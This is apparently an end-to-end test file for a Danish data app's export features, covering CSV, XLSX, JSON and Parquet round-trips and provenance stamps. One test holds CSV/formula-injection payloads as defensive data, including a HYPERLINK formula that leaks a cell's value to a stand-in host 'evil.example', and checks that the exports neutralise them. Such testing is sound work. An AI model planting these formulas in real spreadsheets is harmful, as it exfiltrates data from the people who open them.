import { mkdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { readXlsx } from '../../src/ingest/xlsx';
import { baseUrl, sessionPerTest } from './browser';

const session = sessionPerTest();
const ARTIFACTS = resolve('tests/e2e/.artifacts/export');

async function openConsole(page: Page) {
  await page.goto(baseUrl());
  await page.getByTestId('engine-loading').waitFor({ state: 'detached', timeout: 30000 });
  await page.getByRole('link', { name: /SQL/ }).click();
  await page.getByTestId('sql-editor').waitFor();
}

async function runSql(page: Page, sql: string): Promise<number> {
  await page.getByTestId('sql-editor').fill(sql);
  await page.getByTestId('sql-run').click();
  const count = page.getByTestId('sql-rowcount');
  await count.waitFor({ timeout: 30000 });
  return Number(await count.getAttribute('data-value'));
}

/** Opens an export menu, picks a format and returns the saved file's path and name. */
async function exportAs(page: Page, menu: string, format: string): Promise<{ path: string; name: string }> {
  mkdirSync(ARTIFACTS, { recursive: true });
  const details = page.getByTestId(menu);
  if ((await details.getAttribute('open')) === null) await details.locator('summary').click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId(`${menu}-${format}`).click()]);
  const name = download.suggestedFilename();
  const path = join(ARTIFACTS, `${format}-${name}`);
  await download.saveAs(path);
  return { path, name };
}

describe('exports', () => {
  it('round-trips: a query exported as CSV (Danish ; and ,) imports as a new data set with the same totals', async () => {
    const page = session().page;
    await page.goto(baseUrl());
    const figure = page.getByTestId('figure-reported');
    await expect.poll(() => figure.getAttribute('data-value').then(Number), { timeout: 30000 }).toBeGreaterThan(0);
    const realised = Number(await figure.getAttribute('data-value'));
    await openConsole(page);
    await page.getByTestId('sql-examples').selectOption('canonical-rows');
    await page.getByTestId('sql-run').click();
    await page.getByTestId('sql-rowcount').waitFor({ timeout: 30000 });
    const rows = Number(await page.getByTestId('sql-rowcount').getAttribute('data-value'));
    expect(rows).toBeGreaterThan(100);

    for (const format of ['csv-da', 'csv']) {
      const file = await exportAs(page, 'sql-export', format);
      // The stamp in the name: what, data set, first 8 hex of its hash, scenario, date, app version.
      expect(file.name).toMatch(/^query_made-spir-demo-[0-9a-f]{8}_damvad-2017_\d{4}-\d{2}-\d{2}_v\d+\.\d+\.\d+\.csv$/);
      const bytes = readFileSync(file.path);
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(bytes.toString('utf8').split('\r\n')[0]).toContain(format === 'csv-da' ? 'project_id;project_title' : 'project_id,project_title');

      await page.getByTestId('import-file').setInputFiles(file.path);
      const summary = page.getByTestId('import-summary');
      await summary.waitFor({ timeout: 30000 });
      expect(Number(await summary.getAttribute('data-rows-in'))).toBe(rows);
      expect(Number(await summary.getAttribute('data-rows-rejected'))).toBe(0);
      expect(Number(await summary.getAttribute('data-rows-loaded'))).toBe(rows);
      expect(Number(await summary.getAttribute('data-realised-total'))).toBeCloseTo(realised, 2);
      await page.getByRole('button', { name: /^(Luk|Close)$/ }).click();
    }
    await page.getByRole('link', { name: /Overblik|Overview/ }).click();
    await expect.poll(() => page.getByTestId('figure-reported').getAttribute('data-value').then(Number), { timeout: 20000 }).toBeCloseTo(realised, 2);
    expect(await page.getByTestId('dataset-select').inputValue()).not.toBe('demo');
  });

  it('neutralises hostile cells in CSV and XLSX; negative numbers stay numbers', async () => {
    const page = session().page;
    await openConsole(page);
    const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+SUM(1,1)', '-1+2', '@cmd', '\t=1+1', '\r=2+2'];
    const values = hostile.map((h, i) => `(${`'${h.replaceAll("'", "''")}'`.replace('\t', "' || chr(9) || '").replace('\r', "' || chr(13) || '")}, ${i % 2 === 0 ? -12.5 - i : i})`);
    const n = await runSql(page, `CREATE OR REPLACE TABLE hostile AS SELECT * FROM (VALUES ${values.join(', ')}) t(label, amount); SELECT * FROM hostile ORDER BY amount`);
    expect(n).toBe(hostile.length);

    const csv = readFileSync((await exportAs(page, 'sql-export', 'csv-da')).path, 'utf8').replace(/^\uFEFF/, '');
    for (const h of hostile) expect(csv).toContain(`'${h.replaceAll('"', '""')}`);
    expect(csv).toMatch(/;-12,5\r\n/);
    expect(csv).not.toMatch(/(^|\r\n|;)"?[=+@]/);

    const xlsxBytes = readFileSync((await exportAs(page, 'sql-export', 'xlsx')).path);
    const xlsx = await readXlsx(xlsxBytes, 0);
    expect(xlsx.headers).toEqual(['label', 'amount']);
    const labels = xlsx.rows.map((r) => r[0]);
    for (const h of hostile) expect(labels).toContain(`'${h}`);
    expect(xlsx.rows.map((r) => Number(r[1]))).toContain(-12.5);
    // The stamp is on its own sheet, named in the app's language (Danish by default).
    const sheets = await readXlsx(xlsxBytes, 'Proveniens');
    expect(sheets.rows.find((r) => r[0] === 'spillover.dataset_sha256')?.[1]).toMatch(/^[0-9a-f]{64}$/);
  });

  it('exports a Data screen table with its stamp (JSON meta, Parquet)', async () => {
    const page = session().page;
    await page.goto(`${baseUrl()}?lang=en#/data`);
    const total = page.getByTestId('data-total');
    await expect.poll(() => total.getAttribute('data-value').then(Number), { timeout: 30000 }).toBeGreaterThan(0);
    const rows = Number(await total.getAttribute('data-value'));
    const json = JSON.parse(readFileSync((await exportAs(page, 'data-export', 'json')).path, 'utf8')) as {
      meta: { dataset: string; datasetHash: string; appVersion: string; scenario: { preset: string } };
      rows: unknown[];
    };
    expect(json.rows).toHaveLength(rows);
    expect(json.meta.datasetHash).toMatch(/^[0-9a-f]{64}$/);
    expect(json.meta.scenario.preset).toBe('damvad-2017');
    const parquet = readFileSync((await exportAs(page, 'data-export', 'parquet')).path);
    expect(parquet.subarray(0, 4).toString('latin1')).toBe('PAR1');
    expect(parquet.toString('latin1')).toContain(json.meta.datasetHash);
  });
});
